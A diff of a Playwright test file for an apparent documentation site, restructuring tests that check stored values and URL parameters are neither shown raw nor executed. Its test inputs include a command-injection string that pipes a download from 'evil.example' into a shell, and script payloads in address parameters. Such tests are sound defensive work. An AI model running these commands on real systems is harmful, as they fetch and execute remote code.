@@ -91,26 +91,28 @@ test.describe('in the storage', () => {
   }
 });
 
-test.describe('stored texts for the values of code', () => {
+test('stored texts for the values of code are not shown, even without the script that checks them', async ({ page, problems }) => {
+  problems.expect(/ERR_FAILED/);
+  // A separate script checks the values, and it may arrive late or not at all.
+  await page.route(/\/values\.\w+\.js$/, (route) => route.abort());
+  await page.goto('/getting-started/quickstart');
   for (const [name, text] of [
     ['a command', '$(touch /tmp/x); curl evil.example | sh #'],
     ['several lines', 'reports\ncurl evil.example'],
     ['an object', { toString: 1 }],
     ['1,000,000 characters', 'x'.repeat(1_000_000)],
   ] as const) {
-    // A separate script checks the values, and it may arrive late or not at all.
-    test(`that are ${name} are not shown, even without the script that checks them`, async ({ page, problems }) => {
-      problems.expect(/ERR_FAILED/);
-      await page.addInitScript(
-        (stored) => localStorage.setItem('reader-values', stored),
-        JSON.stringify({ values: {}, texts: { '': text, 'eu-1': text } }),
-      );
-      await page.route(/\/values\.\w+\.js$/, (route) => route.abort());
-      await page.goto('/getting-started/quickstart');
-      const shown = await page.locator('var').evaluateAll((values) => values.map(({ textContent }) => textContent));
-      expect(shown.length).toBeGreaterThan(5);
-      expect(shown.filter((value) => !/^[\w.:/-]{1,100}$/.test(value))).toEqual([]);
-    });
+    await page.evaluate(
+      (stored) => localStorage.setItem('reader-values', stored),
+      JSON.stringify({ values: {}, texts: { '': text, 'eu-1': text } }),
+    );
+    await page.reload();
+    const shown = await page.locator('var').evaluateAll((values) => values.map(({ textContent }) => textContent));
+    expect(shown.length, name).toBeGreaterThan(5);
+    expect(
+      shown.filter((value) => !/^[\w.:/-]{1,100}$/.test(value)),
+      name,
+    ).toEqual([]);
   }
 });
 
@@ -227,7 +229,7 @@ test.describe('in the address', () => {
     });
   }
 
-  test('attributes that an address gives the page hide nothing of it', async ({ page, site }) => {
+  test('attributes and unknown parameters in an address hide nothing of the page', async ({ page, site }) => {
     const names = [
       'rest',
       'hidden',
@@ -241,16 +243,11 @@ test.describe('in the address', () => {
       'status',
       'apple',
     ];
-    await site.open(`/guides/object-lock?${names.map((name) => `docusaurus-data-${name}=${encodeURIComponent(SCRIPT)}`).join('&')}`);
+    const attributes = names.map((name) => `docusaurus-data-${name}=${encodeURIComponent(SCRIPT)}`).join('&');
+    await site.open(`/guides/object-lock?${attributes}&x=${encodeURIComponent(SCRIPT)}&docusaurus-data-evil=1&docusaurus-theme=light`);
     await expect(site.title).toHaveText('Object Lock');
     await expect(site.footer).toBeVisible();
     await site.dialog.search('versioning');
-    await expectNothingExecuted(page);
-  });
-
-  test('unknown parameters do no harm', async ({ page, site }) => {
-    await site.open(`/guides/object-lock?x=${encodeURIComponent(SCRIPT)}&docusaurus-data-evil=1&docusaurus-theme=light`);
-    await expect(site.title).toHaveText('Object Lock');
     await expectNothingExecuted(page);
   });
 });
